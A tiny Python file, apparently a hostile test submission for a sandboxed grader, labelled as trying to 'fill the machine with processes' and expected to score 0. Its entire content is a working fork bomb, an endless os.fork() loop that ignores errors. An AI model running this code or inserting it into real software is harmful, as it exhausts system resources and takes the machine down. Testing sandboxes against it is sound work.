"""
Tries: fill the machine with processes.

Deserves: 0
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
